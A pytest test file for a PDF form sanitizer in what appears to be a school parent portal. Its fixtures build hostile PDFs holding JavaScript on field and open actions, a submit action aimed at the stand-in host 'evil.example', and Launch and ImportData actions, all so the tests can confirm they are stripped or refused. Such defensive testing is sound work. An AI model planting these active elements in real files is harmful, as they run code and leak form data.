"""Forms as authorities publish them stay forms; what would run or hide in them is gone."""

from collections.abc import Callable
from io import BytesIO

import pikepdf
import pytest
from pikepdf import AttachedFileSpec, Dictionary, Name, Pdf, Permissions, String

from elternportal.files.inspection import check
from elternportal.files.refusals import FileActive, FileEncrypted, FormNeedsProgram
from tests.support import uploads

SECRETS = (b"app.alert", b"evil", b"<xdp", b"CrossIndustryInvoice")


def form(change: Callable[[Pdf], None] = lambda _: None, **saved: object) -> bytes:
    """A form with a text field and one that calculates, unpacked so that tests can look inside."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(200, 200))
    script = Dictionary(S=Name("/JavaScript"), JS=String("app.alert(1)"))
    fields = [
        pdf.make_indirect(
            Dictionary(
                Type=Name("/Annot"),
                Subtype=Name("/Widget"),
                FT=Name("/Tx"),
                T=String(name),
                V=String(value),
                Rect=[10, 10 + 30 * place, 100, 30 + 30 * place],
                AA=Dictionary(C=script),
            )
        )
        for place, (name, value) in enumerate((("Name", "Amsel"), ("Summe", "12")))
    ]
    page.obj.Annots = pdf.make_indirect(pikepdf.Array(fields))
    pdf.Root.AcroForm = Dictionary(Fields=pikepdf.Array(fields), CO=pikepdf.Array(fields[1:]))
    change(pdf)
    target = BytesIO()
    pdf.save(target, object_stream_mode=pikepdf.ObjectStreamMode.disable, **saved)
    return target.getvalue()


def with_xfa(pdf: Pdf) -> None:
    pdf.Root.AcroForm.XFA = pdf.make_stream(b"<xdp:xdp>evil</xdp:xdp>")


def with_dynamic_xfa(pdf: Pdf) -> None:
    with_xfa(pdf)
    pdf.Root.NeedsRendering = True


def with_invoice(pdf: Pdf) -> None:
    data = b"<rsm:CrossIndustryInvoice/>"
    pdf.attachments["factur-x.xml"] = AttachedFileSpec(pdf, data, filename="factur-x.xml")
    pdf.Root.AF = pikepdf.Array([pdf.attachments["factur-x.xml"].obj])


def with_document_script(pdf: Pdf) -> None:
    script = Dictionary(S=Name("/JavaScript"), JS=String("app.alert(2)"))
    pdf.Root.OpenAction = script
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=[String("start"), script]))


def with_submit_button(pdf: Pdf) -> None:
    action = Dictionary(S=Name("/SubmitForm"), F=String("https://evil.example"))
    pdf.Root.AcroForm.Fields[0].A = action


def with_attached_note(pdf: Pdf) -> None:
    note = Dictionary(
        Type=Name("/Annot"), Subtype=Name("/FileAttachment"), Rect=[0, 0, 9, 9], FS=String("evil")
    )
    pdf.pages[0].Annots.append(pdf.make_indirect(note))


CLEANED = [with_xfa, with_invoice, with_document_script, with_submit_button, with_attached_note]


@pytest.mark.parametrize("change", CLEANED)
def test_W3_a_form_is_cleaned_and_stays_one(change: Callable[[Pdf], None]) -> None:
    content = check("antrag.pdf", form(change)).content
    with pikepdf.open(BytesIO(content)) as pdf:
        fields = [(str(field.T), str(field.V)) for field in pdf.Root.AcroForm.Fields]
        assert fields == [("Name", "Amsel"), ("Summe", "12")]
        assert len(pdf.pages[0].Annots) == 2
        assert not list(pdf.attachments)
        target = BytesIO()
        pdf.save(
            target,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
            stream_decode_level=pikepdf.StreamDecodeLevel.all,
        )
    assert not [secret for secret in SECRETS if secret in target.getvalue()]


def test_W3_a_form_that_only_a_program_draws_is_refused_with_the_way_out() -> None:
    with pytest.raises(FormNeedsProgram) as refusal:
        check("steuer.pdf", form(with_dynamic_xfa))
    assert refusal.value.args_for_text["name"] == "steuer.pdf"


def test_a_password_against_changes_does_not_matter() -> None:
    locked = pikepdf.Encryption(owner="secret", user="", allow=Permissions(modify_form=False))
    content = check("x.pdf", form(encryption=locked)).content
    with pikepdf.open(BytesIO(content)) as pdf:
        assert not pdf.is_encrypted
        assert len(pdf.Root.AcroForm.Fields) == 2


def test_a_password_for_opening_is_asked_to_be_taken_off() -> None:
    with pytest.raises(FileEncrypted):
        check("x.pdf", form(encryption=pikepdf.Encryption(owner="a", user="b")))


@pytest.mark.parametrize("kind", ["Launch", "ImportData", "GoToE", "Rendition"])
def test_W3_what_starts_something_is_refused_wherever_it_stands(kind: str) -> None:
    def change(pdf: Pdf) -> None:
        deep = pikepdf.Array([Dictionary(K=Dictionary(S=Name(f"/{kind}")))])
        pdf.pages[0].obj["/X"] = deep

    with pytest.raises(FileActive):
        check("x.pdf", form(change))


def test_W3_carried_files_and_scripts_are_taken_out() -> None:
    action = uploads.pdf_action("JavaScript", JS="app.alert(1)")
    for content in (uploads.pdf_with_file(), uploads.pdf(OpenAction=action)):
        cleaned = check("x.pdf", content).content
        with pikepdf.open(BytesIO(cleaned)) as pdf:
            assert not list(pdf.attachments)
            assert "/OpenAction" not in pdf.Root
